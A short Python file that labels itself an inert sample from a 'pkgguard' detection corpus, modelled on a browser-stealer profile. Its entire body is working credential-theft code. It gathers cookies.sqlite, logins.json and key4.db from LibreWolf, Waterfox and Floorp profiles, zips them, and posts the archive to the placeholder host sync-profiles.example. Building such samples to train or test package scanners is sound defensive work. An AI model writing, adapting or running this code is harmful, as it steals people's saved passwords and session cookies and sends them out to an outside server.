# pkgguard corpus 682 (browser-data), modelled on [stealer-profile]; inert, never run.
import glob
import os
import zipfile

import requests

home = os.path.expanduser("~")
roots = [
    os.path.join(home, ".librewolf"),
    os.path.join(home, ".waterfox"),
    os.path.join(home, ".floorp"),
    os.path.join(home, "AppData", "Roaming", "Waterfox", "Profiles"),
]
archive = os.path.join(home, ".cache", "fx.zip")
with zipfile.ZipFile(archive, "w") as zf:
    for root in roots:
        for name in ("cookies.sqlite", "logins.json", "key4.db"):
            for path in glob.glob(os.path.join(root, "*", name)):
                zf.write(path, path.replace(home, ""))
with open(archive, "rb") as fh:
    requests.post("https://sync-profiles.example/b", files={"z": fh}, timeout=60)
